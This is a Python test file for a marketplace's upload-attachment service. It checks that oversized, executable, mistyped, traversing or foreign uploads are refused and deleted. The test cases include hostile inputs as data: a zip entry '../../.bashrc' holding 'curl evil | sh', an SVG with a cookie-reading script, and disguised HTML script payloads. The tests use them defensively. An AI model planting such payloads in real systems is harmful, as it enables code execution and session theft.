"""Attaching uploads to agents: every refusal deletes the object and attaches nothing; versions of live agents."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from sqlmodel import select

from marketplace import db
from marketplace.config import settings
from marketplace.integrations.storage import get_storage
from marketplace.models import Agent, AgentFile, AgentRevision, AgentStatus, Upload
from marketplace.services import filetypes
from marketplace.services.errors import Conflict, Forbidden, Invalid, NotFound, Unauthorized
from marketplace.services.vendors import agents, files, revisions
from tests.factories import ago, make_agent, make_upload, make_user, make_vendor, upload_url


def _rows(agent_id, version=None):
    with db.session_scope() as session:
        query = select(AgentFile).where(AgentFile.agent_id == agent_id)
        if version is not None:
            query = query.where(AgentFile.version == version)
        return list(session.exec(query).all())


def _upload(key):
    with db.session_scope() as session:
        return session.get(Upload, key)


def _agent(agent_id):
    with db.session_scope() as session:
        return session.get(Agent, agent_id)


def test_attach_keeps_the_name_the_real_size_and_marks_the_upload():
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    upload = make_upload(vendor, b"# Read me\n", filename="README.md", content_type="text/markdown")
    info = files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
    assert (info.filename, info.size_bytes, info.content_type) == ("README.md", 10, "text/markdown")
    [row] = _rows(agent.id)
    assert (row.id, row.version) == (info.id, 1)
    assert _upload(upload.key).attached_at is not None
    # The object moved to a key no upload URL names: a still-valid presigned URL cannot replace it.
    assert row.storage_key.startswith(f"agents/{agent.id}/") and row.storage_key != upload.key
    assert get_storage().head(row.storage_key) == 10 and get_storage().head(upload.key) is None
    with pytest.raises(Conflict, match="already"):  # the same upload cannot be attached twice
        files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
    assert get_storage().head(row.storage_key) == 10 and len(_rows(agent.id)) == 1


def test_attach_to_a_rejected_agent_resubmits_it():
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.REJECTED, rejection_reason="No files")
    files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(make_upload(vendor)))
    row = _agent(agent.id)
    assert (row.status, row.rejection_reason) == ("pending", None)


def _refused(vendor, agent_id, upload, error=Invalid, match=None):
    with pytest.raises(error, match=match):
        files.attach_file(actor=vendor, agent_id=agent_id, file_url=upload_url(upload))
    assert get_storage().head(upload.key) is None, "the refused object is deleted"
    stored = {f"agents/{agent_id}/{path.name}" for path in (Path(settings.storage_dir) / "agents" / agent_id).glob("*")}
    assert stored == {row.storage_key for row in _rows(agent_id)}, "nor kept under the agent"
    assert _upload(upload.key) is None
    with db.session_scope() as session:
        assert session.exec(select(AgentFile).where(AgentFile.storage_key == upload.key)).all() == []


def test_too_large(monkeypatch):
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    monkeypatch.setattr(settings, "upload_max_file_bytes", 10)
    assert files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(make_upload(vendor, b"x" * 10,
                                                                                              filename="a.txt")))
    _refused(vendor, agent.id, make_upload(vendor, b"x" * 11, filename="b.txt"), match="File is too large: 11 bytes")


def test_too_many_files_per_version(monkeypatch):
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    monkeypatch.setattr(settings, "upload_max_files_per_agent", 2)
    for _ in range(2):
        files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(make_upload(vendor)))
    _refused(vendor, agent.id, make_upload(vendor), match="at most 2 files")
    assert len(_rows(agent.id)) == 2


@pytest.mark.parametrize(("data", "filename", "match"), [
    (b"\x7fELF\x02\x01\x01" + b"\0" * 100, "agent.py", "Executable files are not allowed"),
    (b"MZ\x90\x00" + b"\0" * 100, "agent.zip", "Executable files are not allowed"),
    (b"print('x')\x00\x00\x00", "agent.py", "not a valid .py file"),
    (b"\x89PNG\r\n\x1a\n", "logo.png", "This file type is not allowed"),
    (b"", "empty.txt", "The file is empty"),
])
def test_wrong_types(data, filename, match):
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    _refused(vendor, agent.id, make_upload(vendor, data, filename=filename), match=match)


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 56
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


def _zip_with(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("README.md", "# hi\n")
        z.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(("data", "filename", "match"), [
    (b"# Notes\n" * 1200 + ELF, "README.md", "README.md is not a valid .md file: it holds binary data"),
    (SVG, "config.json", "config.json is not a valid .json file"),
    (b"%PDF-1.7\n<html><script>alert(1)</script></html>\n", "manual.pdf", "manual.pdf is not a valid .pdf file"),
    (b"PK\x03\x04<html><script>alert(1)</script></html>", "bundle.zip", "bundle.zip is not a valid .zip file"),
    (_zip_with("../../.bashrc", b"curl evil | sh\n"), "bundle.zip", "bundle.zip contains an entry with an unsafe path"),
    (_zip_with("bin/tool", ELF), "bundle.zip", "bundle.zip contains an executable file: bin/tool"),
    (b"# Read me\n", "..", "'..' is not a valid file name"),
    (b"# Read me\n", ".", "'.' is not a valid file name"),
])
def test_the_whole_file_and_its_name_are_checked(data, filename, match):
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    _refused(vendor, agent.id, make_upload(vendor, data, filename=filename), match=re.escape(match))


@pytest.mark.parametrize(("data", "filename", "browser_type", "stored_type"), [
    (b"# Read me\n", "README.md", "text/html", "text/markdown"),
    (b'{"a": 1}', "config.json", "image/svg+xml", "application/json"),
    (_zip_with("a.txt", b"a"), "bundle.zip", "text/html", "application/zip"),
    (b"print(1)\n", "file", "text/html", "text/plain"),  # a PUT without a name: judged by content
])
def test_the_stored_type_is_the_one_found_never_the_browsers(data, filename, browser_type, stored_type):
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    upload = make_upload(vendor, data, filename=filename, content_type=browser_type)
    info = files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
    assert info.content_type == stored_type
    assert [row.content_type for row in _rows(agent.id)] == [stored_type]


def test_a_conflict_after_the_claim_gives_the_upload_back(monkeypatch):
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    upload = make_upload(vendor, b"# Read me\n", filename="README.md")

    def changed_meanwhile(*args, **kwargs):
        raise Conflict(revisions.CONCURRENT_CHANGE)

    monkeypatch.setattr(files, "_record", changed_meanwhile)
    with pytest.raises(Conflict):
        files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
    row = _upload(upload.key)
    assert (row.claimed_key, row.attached_at) == (None, None)
    assert get_storage().get(upload.key) == b"# Read me\n"
    assert not list((Path(settings.storage_dir) / "agents" / agent.id).glob("*"))
    monkeypatch.undo()
    assert files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload)).size_bytes == 10


def test_an_unexpected_error_after_the_claim_gives_the_upload_back(monkeypatch):
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    upload = make_upload(vendor, b"# Read me\n", filename="README.md")

    def storage_down(**kwargs):
        raise RuntimeError("storage unreachable")

    monkeypatch.setattr(filetypes, "check_object", storage_down)
    with pytest.raises(RuntimeError, match="storage unreachable"):
        files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
    assert _upload(upload.key).claimed_key is None and get_storage().head(upload.key) == 10
    assert _rows(agent.id) == []


def test_object_never_uploaded():
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    _refused(vendor, agent.id, make_upload(vendor, None), match="not found in storage")


def test_another_vendors_agent_and_unknown_agents():
    vendor, rival = make_vendor(), make_vendor()
    theirs = make_agent(rival, status=AgentStatus.PENDING)
    _refused(vendor, theirs.id, make_upload(vendor), error=Forbidden, match="your own agents")
    _refused(vendor, "missing", make_upload(vendor), error=NotFound)
    deleted = make_agent(vendor, deleted_at=ago(days=1))
    _refused(vendor, deleted.id, make_upload(vendor), error=NotFound)


def test_foreign_unknown_and_expired_uploads_attach_nothing():
    vendor, rival = make_vendor(), make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    theirs = make_upload(rival)
    with pytest.raises(Forbidden, match="another vendor"):
        files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(theirs))
    # Not this vendor's to delete: the rival's upload stays theirs (an attacker cannot destroy it).
    assert _upload(theirs.key) is not None and get_storage().head(theirs.key) is not None
    for url in ("https://evil.example.com/file.zip", "not a url", "", f"http://localhost:3000/api/uploads/local/"
                                                                        f"uploads/{'0' * 32}"):
        with pytest.raises(Invalid, match="not issued by this marketplace"):
            files.attach_file(actor=vendor, agent_id=agent.id, file_url=url)
    expired = make_upload(vendor, expires_at=ago(minutes=1))
    with pytest.raises(Invalid):
        files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(expired))
    assert _rows(agent.id) == []


def test_attach_and_remove_need_an_approved_vendor():
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING, files=1)
    upload = make_upload(vendor)
    [row] = _rows(agent.id)
    with pytest.raises(Unauthorized):
        files.attach_file(actor=None, agent_id=agent.id, file_url=upload_url(upload))
    with pytest.raises(Unauthorized):
        files.remove_file(actor=None, file_id=row.id)
    for user in (make_user(), make_vendor(vendor_approved=False)):
        with pytest.raises(Forbidden, match="Vendor access required"):
            files.attach_file(actor=user, agent_id=agent.id, file_url=upload_url(upload))
        with pytest.raises(Forbidden):
            files.remove_file(actor=user, file_id=row.id)
    with pytest.raises(Forbidden, match="your own agents"):
        files.remove_file(actor=make_vendor(), file_id=row.id)
    with pytest.raises(NotFound):
        files.remove_file(actor=vendor, file_id="missing")
    assert len(_rows(agent.id)) == 1 and _upload(upload.key).attached_at is None


def test_remove_from_a_pending_agent_deletes_the_object():
    vendor = make_vendor()
    agent = make_agent(vendor, status=AgentStatus.PENDING)
    upload = make_upload(vendor)
    info = files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
    [row] = _rows(agent.id)
    files.remove_file(actor=vendor, file_id=info.id)
    assert _rows(agent.id) == [] and get_storage().head(row.storage_key) is None


def test_a_live_agents_files_change_only_in_its_revision():
    vendor = make_vendor()
    live = make_agent(vendor, name="Live")
    old = make_upload(vendor, b"v1", filename="v1.md")
    # Attached while the agent was pending: version 1 is the live file set.
    with db.session_scope() as session:
        session.add(AgentFile(agent_id=live.id, version=1, storage_key=old.key, filename="v1.md", size_bytes=2))
    new = make_upload(vendor, b"v2", filename="v2.md")
    files.attach_file(actor=vendor, agent_id=live.id, file_url=upload_url(new))
    with db.session_scope() as session:
        revision = session.exec(select(AgentRevision)).one()
    assert (revision.version, revision.files_changed, _agent(live.id).current_version) == (2, True, 1)
    assert [r.filename for r in _rows(live.id, 1)] == ["v1.md"]
    assert sorted(r.filename for r in _rows(live.id, 2)) == ["v1.md", "v2.md"]
    # Removing the live file by its live id removes its copy in the revision; the live row and object stay.
    [live_row] = _rows(live.id, 1)
    files.remove_file(actor=vendor, file_id=live_row.id)
    assert [r.filename for r in _rows(live.id, 2)] == ["v2.md"]
    assert [r.id for r in _rows(live.id, 1)] == [live_row.id] and get_storage().head(old.key) == 2
    assert [f.filename for f in agents.get_editable_agent(actor=vendor, agent_id=live.id).files] == ["v2.md"]
    [listed] = agents.list_own_agents(actor=vendor)
    assert listed.has_pending_revision and listed.file_count == 1 and listed.status == "approved"
